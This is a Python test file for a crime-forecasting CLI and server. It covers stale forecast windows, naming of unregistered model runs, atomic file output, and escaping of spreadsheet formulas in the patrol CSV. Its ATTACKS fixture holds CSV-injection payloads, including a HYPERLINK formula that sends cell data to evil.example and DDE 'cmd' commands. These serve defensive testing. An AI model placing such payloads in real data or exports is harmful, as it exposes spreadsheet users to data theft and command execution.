"""``crimecast predict`` / ``serve`` reliability: stale windows, unregistered runs, atomic
``--out``, and formula place names in the patrol CSV (OWASP CSV injection), end to end.

The model here is trained by a real ``run_pipeline`` on generic-schema data whose area
names are spreadsheet formulas; the gate is set so high that the run is not registered.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import httpx
import polars as pl
import pytest
from typer.testing import CliRunner

from crimecast.cli import app
from crimecast.config import Settings
from crimecast.pipeline.run import RunSummary, run_pipeline
from crimecast.serving.bundle import ModelBundle, load_bundle, load_bundle_from_dir
from crimecast.serving.server import load_served

from .conftest import LiveServer, ServedRun, free_port
from .test_bundle import sagemaker_model_dir

ATTACKS = {"1": '=HYPERLINK("http://evil.example/?x="&A1,"Central")',
           "2": "+cmd|' /C calc'!A0",
           "3": "@SUM(1+1)*cmd|' /C calc'!A0",
           "4": "Hollenbeck"}
AT = "2023-09-01T00:00"
runner = CliRunner()


@dataclass(frozen=True)
class GenericRun:
    """An unregistered run trained on generic data with hostile area names."""

    summary: RunSummary
    runs: Path

    def predict(self, *args: str) -> list[str]:
        return ["predict", "--runs-dir", str(self.runs), "--run", self.summary.run_id,
                "--horizon", "1d", *args]


@pytest.fixture(scope="module")
def generic_run(served_run: ServedRun, tmp_path_factory: pytest.TempPathFactory) -> GenericRun:
    folder = tmp_path_factory.mktemp("generic")
    clean = pl.read_parquet(served_run.summary.run_dir / "process" / "clean.parquet")
    generic = clean.filter(pl.col("area_id").is_in(list(ATTACKS)),
                           pl.col("occurred_at") >= pl.datetime(2023, 4, 1)).select(
        "incident_id",
        pl.col("occurred_at").dt.strftime("%Y-%m-%dT%H:%M:%S"),
        pl.col("reported_at").dt.strftime("%Y-%m-%dT%H:%M:%S"),
        "lat", "lon", pl.col("crime_desc").alias("crime_type"),
        pl.col("area_id").replace_strict(ATTACKS).alias("area"))
    data = folder / "generic.csv"
    generic.write_csv(data)
    runs = folder / "runs"
    settings = served_run.settings.with_overrides(
        "features", spatial_unit="grid", cell_size=3000.0, time_bin="1d", label="topk")
    settings = settings.with_overrides("pipeline", runs_dir=str(runs), f1_threshold=1.0)
    summary = run_pipeline(settings, [str(data)], schema="generic", bootstrap_resamples=10)
    assert summary.registration["version"] is None, summary.registration
    return GenericRun(summary=summary, runs=runs)


def test_patrol_csv_quotes_formula_place_names(generic_run: GenericRun) -> None:
    result = runner.invoke(app, generic_run.predict("--at", AT, "--top", "100",
                                                    "--format", "csv"))
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {r["region"] for r in rows} == {"'" + ATTACKS["1"], "'" + ATTACKS["2"],
                                          "'" + ATTACKS["3"], ATTACKS["4"]}
    geo = runner.invoke(app, generic_run.predict("--at", AT, "--top", "100"))
    assert geo.exit_code == 0, geo.output
    regions = {f["properties"]["region"] for f in json.loads(geo.stdout)["features"]}
    assert regions == set(ATTACKS.values())  # GeoJSON is data, not a spreadsheet: as is


def test_an_unregistered_run_is_named_so_never_version_none(
        generic_run: GenericRun, live_server: Callable[..., LiveServer]) -> None:
    run_id = generic_run.summary.run_id
    result = runner.invoke(app, generic_run.predict("--at", AT, "--top", "3", "--format",
                                                    "csv"))
    assert result.exit_code == 0, result.output
    assert (f"3 units, window 2023-09-01 00:00 to 2023-09-02 00:00, model crimecast-hotspots, "
            f"unregistered run {run_id}") in result.stderr
    assert "None" not in result.stderr and "None" not in result.stdout
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["model_version"] for r in rows] == ["", "", ""]
    assert {r["run_id"] for r in rows} == {generic_run.summary.registration["mlflow_run_id"]}
    geo = runner.invoke(app, generic_run.predict("--at", AT, "--top", "3"))
    assert json.loads(geo.stdout)["properties"]["model_version"] is None
    bundle = load_bundle(run_id, runs_dir=generic_run.runs)
    assert bundle.describe() == f"crimecast-hotspots, unregistered run {run_id}"
    with live_server(loaded=load_served([bundle], [], Settings())) as server:
        answer = httpx.post(f"{server.url}/invocations", json={"instances": [
            dict.fromkeys(bundle.features, 0.0)]})
        assert answer.status_code == 200, answer.text
        assert "x-crimecast-model-version" not in answer.headers
        assert answer.headers["x-crimecast-run-id"] == bundle.run_id
        assert answer.json()["model_version"] is None


def test_serve_names_an_unregistered_run(generic_run: GenericRun) -> None:
    port = free_port()
    process = subprocess.Popen(
        [sys.executable, "-m", "crimecast.cli", "serve", "--runs-dir", str(generic_run.runs),
         "--run", generic_run.summary.run_id, "--port", str(port)],
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        deadline = time.monotonic() + 90
        while True:  # the 'serving' line is printed before the port opens
            try:
                if httpx.get(f"http://127.0.0.1:{port}/ping", timeout=2).status_code == 200:
                    break
            except httpx.TransportError:
                pass
            assert process.poll() is None and time.monotonic() < deadline
            time.sleep(0.25)
    finally:
        process.terminate()
        output, _ = process.communicate(timeout=20)
    assert (f"serving crimecast-hotspots, unregistered run {generic_run.summary.run_id} on "
            f"http://localhost:{port}") in output
    assert "version None" not in output


def test_predict_refuses_stale_and_historyless_windows(generic_run: GenericRun) -> None:
    stale = runner.invoke(app, generic_run.predict("--at", "2030-06-01T00:00"))
    assert stale.exit_code == 2
    lines = stale.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(
        "error: the window starting 2030-06-01T00:00 begins ")
    assert lines[0].endswith("or pass --allow-stale to forecast anyway.")
    assert "after the last known event (2023-09-30T" in lines[0]
    allowed = runner.invoke(app, generic_run.predict("--at", "2030-06-01T00:00",
                                                     "--allow-stale", "--format", "csv"))
    assert allowed.exit_code == 0, allowed.output
    boxes = pl.read_csv(allowed.stdout.encode())
    assert boxes.columns[-3:] == ["data_through", "events_known", "wkt"]
    clean = pl.read_parquet(generic_run.summary.run_dir / "process" / "clean.parquet")
    assert boxes["events_known"].unique().to_list() == [clean.height]
    assert boxes["data_through"].unique().to_list() == [
        f"{clean['occurred_at'].max():%Y-%m-%dT%H:%M}"]
    geo = runner.invoke(app, generic_run.predict("--at", AT))
    props = json.loads(geo.stdout)["properties"]
    assert props["data_through"].startswith("2023-08-31T") and props["events_known"] > 0
    first = clean.select(pl.max_horizontal("occurred_at", pl.col("reported_at").fill_null(
        pl.col("occurred_at"))).min()).item()  # the first event known (the model is delay-aware)
    for extra in ((), ("--allow-stale",)):
        early = runner.invoke(app, generic_run.predict("--at", "1970-01-01T00:00", *extra))
        assert early.exit_code == 2
        assert early.stderr.strip().splitlines() == [
            "error: the window starting 1970-01-01T00:00 begins before the first known event "
            f"({first:%Y-%m-%dT%H:%M}), so there is no history to forecast from (--allow-stale "
            f"does not change that). Choose a window after {first:%Y-%m-%dT%H:%M}."]


# Run the CLI with files limited to 4 KiB, the limit failing the write (EFBIG) instead of
# killing the process: a full disk as a write sees it. Set in the child itself (no
# preexec_fn: this test process runs server threads).
LIMITED = ("import resource, runpy, signal, sys; signal.signal(signal.SIGXFSZ, signal.SIG_IGN); "
           "resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096)); "
           "sys.argv = ['crimecast', *sys.argv[1:]]; "
           "runpy.run_module('crimecast.cli', run_name='__main__')")


def test_predict_out_never_leaves_half_a_file(generic_run: GenericRun,
                                              tmp_path: Path) -> None:
    out = tmp_path / "patrol.geojson"
    out.write_text("yesterday's forecast\n")
    result = subprocess.run(
        [sys.executable, "-c", LIMITED, *generic_run.predict("--at", AT, "--top", "50",
                                                             "--out", str(out))],
        capture_output=True, text=True, timeout=300, check=False,
        env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"})
    assert result.returncode == 2, result.stderr
    assert result.stderr.strip().splitlines() == [
        f"error: cannot write '{out}': File too large. Raise the file-size limit (ulimit -f) "
        "or write elsewhere."]
    assert out.read_text() == "yesterday's forecast\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["patrol.geojson"]
    blocked = tmp_path / "patrol.geojson" / "sub" / "x.csv"
    result = runner.invoke(app, generic_run.predict("--at", AT, "--out", str(blocked)))
    assert result.exit_code == 2
    assert result.stderr.strip().splitlines() == [
        f"error: cannot write '{blocked}': Not a directory. Choose a path whose folders are "
        "folders."]
    good = runner.invoke(app, generic_run.predict("--at", AT, "--top", "50", "--out",
                                                  str(out)))
    assert good.exit_code == 0, good.output
    units = pl.read_parquet(generic_run.summary.run_dir / "process" / "units.parquet")
    assert len(json.loads(out.read_text())["features"]) == units.height
    assert sorted(p.name for p in tmp_path.iterdir()) == ["patrol.geojson"]


def test_describe_names_registered_and_directory_models(bundle: ModelBundle,
                                                        served_run: ServedRun,
                                                        tmp_path: Path) -> None:
    assert bundle.describe() == (f"crimecast-hotspots version {bundle.version} (run "
                                 f"{bundle.run_id})")
    folder = sagemaker_model_dir(served_run, tmp_path / "m", nested=True)
    assert load_bundle_from_dir(folder).describe() == (
        f"crimecast-hotspots, unregistered model from {folder}")
